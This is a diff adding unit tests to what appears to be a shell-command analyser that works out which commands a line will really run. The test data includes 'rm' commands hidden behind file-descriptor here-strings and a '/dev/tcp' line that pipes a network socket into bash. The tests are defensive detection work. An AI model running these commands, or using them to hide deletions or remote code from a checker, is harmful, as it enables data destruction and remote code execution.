@@ -65,6 +65,20 @@ describe("a command line unfolds to what will really run", () => {
   for (const [text, expected] of variables)
     test(`variables: ${text}`, () => expect(runs(text)).toEqual(expected));
 
+  test("what is opened on a descriptor is found there", () => {
+    expect(runs("bash /dev/fd/3 3<<< 'rm x'")).toEqual(["rm x"]);
+    expect(runs("exec 4<<< 'rm x'; sh <&4")).toEqual(["exec", "rm x"]);
+    expect(runs("{ sh <&5; } 5<<< 'rm x'")).toEqual(["rm x"]);
+    expect(runs("while read -ru 3 f; do rm $f; done 3<<< $'a\nb'")).toEqual(["rm a", "rm b"]);
+    const fed = unfold("exec 3<>/dev/tcp/a/80; bash <&3", place).runs.at(-1)?.stdin;
+    expect(fed?.from === "commands" && fed.commands[0]?.called).toBe("/dev/tcp/a/80");
+  });
+
+  test("errors sent away leave the output as it is", () => {
+    expect(runs("echo x 2>/dev/null | xargs rm")).toEqual(["echo x", "rm x"]);
+    expect(runs("echo x >/dev/null | xargs rm")).toEqual(["echo x", "rm"]);
+  });
+
   test("what comes through a pipe keeps the place it was looked for in", () => {
     const deleted = (text: string) =>
       unfold(text, place)
